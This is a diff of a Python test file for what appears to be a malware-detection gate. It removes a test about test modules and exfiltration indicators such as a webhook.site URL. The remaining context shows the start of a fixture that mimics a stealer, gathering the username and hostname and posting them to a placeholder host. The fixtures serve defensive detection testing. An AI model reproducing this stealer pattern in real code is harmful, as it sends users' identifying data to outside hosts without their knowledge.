@@ -121,14 +121,6 @@ def test_small_files_and_indicators_still_get_a_tree():
     assert gate.reason(padded) == "indicator"
 
 
-def test_test_modules_get_a_tree_only_for_indicators_or_chains():
-    small = (b"def test_run():\n    subprocess.run(['ls'])\n\n\n"
-             b"def test_get():\n    requests.get(URL)\n")
-    assert gate.reason(small, test_code=True) is None
-    assert gate.reason(small) == "small file with two capabilities"
-    assert gate.reason(b"URL = 'https://webhook.site/abc'\n", test_code=True) == "indicator"
-
-
 def test_a_big_module_calling_its_stealer_at_import_is_still_found():
     stealer = (b"def collect():\n    who = {'user': getpass.getuser(), 'host': os.uname()}\n"
                b"    requests.post('https://example.invalid/k', json=who)\n\n\n")
